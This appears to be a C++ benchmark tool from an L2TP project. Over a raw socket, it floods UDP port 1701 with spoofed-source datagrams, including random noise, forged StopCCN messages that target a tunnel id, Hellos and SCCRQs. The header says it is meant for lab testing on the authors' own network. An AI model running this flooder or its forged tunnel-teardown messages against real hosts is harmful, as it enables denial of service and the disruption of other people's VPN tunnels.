// bench_flood DESTINATION SOURCES COUNT RATE [TUNNEL]: sends hostile L2TP datagrams to udp/1701 from forged
// source addresses and prints how many went out in which time. For the lab only, where the network is our
// own.
//   SOURCES: an IPv4 network of 256 addresses, by its first; RATE: datagrams a second, 0: as many as go;
//   TUNNEL: an id of the attacked, for what is forged into it.
#include <arpa/inet.h>
#include <fmt/format.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <array>
#include <charconv>
#include <cstring>
#include <random>
#include <stdexcept>
#include <vector>

#include "l2tp/header.hpp"
#include "l2tp/message.hpp"

using namespace keel;
using namespace keel::l2tp;

namespace {

constexpr std::size_t kBatch = 32;
constexpr std::uint16_t kPort = 1701;

struct Options {
    in_addr destination{}, sources{};
    std::uint64_t count = 0, rate = 0;
    std::uint16_t tunnel = 0;
};

double seconds_now() {
    timespec now{};
    clock_gettime(CLOCK_MONOTONIC, &now);
    return static_cast<double>(now.tv_sec) + static_cast<double>(now.tv_nsec) * 1e-9;
}

class Attacker {
public:
    explicit Attacker(std::uint16_t tunnel) : tunnel_(tunnel) {}

    // One of six kinds in turn.
    Bytes next() {
        switch (turn_++ % 6) {
            case 0: return noise(1 + number() % 200);
            case 1: return headed(0);
            case 2: return headed(tunnel_);
            case 3: return with_sequence(encode_message(tunnel_, 0, Stopccn{1, {1, 0, "forged"}}));
            case 4: return with_sequence(encode_message(number() & 0xffffU, 0, Hello{}));
            default: return sccrq();
        }
    }
    std::uint16_t number() { return static_cast<std::uint16_t>(engine_()); }

private:
    Bytes noise(std::size_t size) {
        Bytes out(size);
        for (auto& octet : out) octet = static_cast<std::uint8_t>(engine_());
        return out;
    }
    // A control header for `tunnel`, and noise behind it.
    Bytes headed(std::uint16_t tunnel) {
        Writer out;
        write_header(out, {tunnel, 0, number(), number()});
        out.bytes(noise(1 + number() % 200));
        finish_message(out);
        return out.take();
    }
    Bytes with_sequence(Bytes message) {
        set_sequence(message, number(), number());
        return message;
    }
    Bytes sccrq() {
        Sccrq message;
        message.host_name = "flood";
        message.assigned_tunnel_id = static_cast<std::uint16_t>(number() | 1U);
        message.receive_window_size = 4;
        return encode_message(0, 0, message);
    }

    std::uint16_t tunnel_;
    std::uint64_t turn_ = 0;
    std::mt19937_64 engine_{1};
};

void put_u16(Bytes& out, std::size_t at, std::size_t value) {
    out[at] = static_cast<std::uint8_t>(value >> 8U);
    out[at + 1] = static_cast<std::uint8_t>(value & 0xffU);
}

// An IPv4 packet with UDP; the kernel fills in the IP checksum, and UDP may do without.
Bytes packet(const Options& options, Attacker& attacker, const Bytes& payload) {
    Bytes out(28);
    out[0] = 0x45;
    put_u16(out, 2, 28 + payload.size());
    out[8] = 64;
    out[9] = IPPROTO_UDP;
    const std::uint32_t source = htonl(ntohl(options.sources.s_addr) + attacker.number() % 256U);
    std::memcpy(&out[12], &source, 4);
    std::memcpy(&out[16], &options.destination.s_addr, 4);
    put_u16(out, 20, 1024U + attacker.number() % 60'000U);
    put_u16(out, 22, kPort);
    put_u16(out, 24, 8 + payload.size());
    out.insert(out.end(), payload.begin(), payload.end());
    return out;
}

void send_batch(int raw, const Options& options, const std::vector<Bytes>& packets) {
    std::array<mmsghdr, kBatch> messages{};
    std::array<iovec, kBatch> vectors{};
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr = options.destination;
    for (std::size_t i = 0; i < packets.size(); ++i) {
        vectors[i] = {const_cast<std::uint8_t*>(packets[i].data()), packets[i].size()};
        messages[i].msg_hdr.msg_name = &to;
        messages[i].msg_hdr.msg_namelen = sizeof to;
        messages[i].msg_hdr.msg_iov = &vectors[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    for (std::size_t sent = 0; sent < packets.size();) {
        const int more = sendmmsg(raw, &messages[sent], static_cast<unsigned>(packets.size() - sent), 0);
        if (more < 0 && errno != ENOBUFS)
            throw std::runtime_error(std::string("sendmmsg: ") + std::strerror(errno));
        if (more > 0) sent += static_cast<std::size_t>(more);
    }
}

int run(const Options& options) {
    const int raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (raw < 0) throw std::runtime_error(std::string("a raw socket: ") + std::strerror(errno));
    Attacker attacker(options.tunnel);
    const double began = seconds_now();
    std::vector<Bytes> packets;
    for (std::uint64_t sent = 0; sent < options.count; sent += packets.size()) {
        packets.clear();
        while (packets.size() < std::min<std::uint64_t>(kBatch, options.count - sent)) {
            packets.push_back(packet(options, attacker, attacker.next()));
        }
        send_batch(raw, options, packets);
        while (options.rate != 0 &&
               seconds_now() - began < static_cast<double>(sent) / static_cast<double>(options.rate)) {
            usleep(1000);
        }
    }
    fmt::print("{{\"sent\": {}, \"seconds\": {:.3f}}}\n", options.count, seconds_now() - began);
    close(raw);
    return 0;
}

bool read_number(const char* text, auto& out) {
    const char* end = text + std::strlen(text);
    const auto [stop, error] = std::from_chars(text, end, out);
    return error == std::errc() && stop == end;
}

}  // namespace

int main(int argc, char** argv) {
    Options options;
    const bool good = (argc == 5 || argc == 6) && inet_pton(AF_INET, argv[1], &options.destination) == 1 &&
                      inet_pton(AF_INET, argv[2], &options.sources) == 1 &&
                      read_number(argv[3], options.count) && read_number(argv[4], options.rate) &&
                      (argc == 5 || read_number(argv[5], options.tunnel));
    if (!good) {
        fmt::print(stderr, "usage: bench_flood DESTINATION SOURCES COUNT RATE [TUNNEL]\n");
        return 2;
    }
    try {
        return run(options);
    } catch (const std::exception& error) {
        fmt::print(stderr, "bench_flood: {}\n", error.what());
        return 1;
    }
}
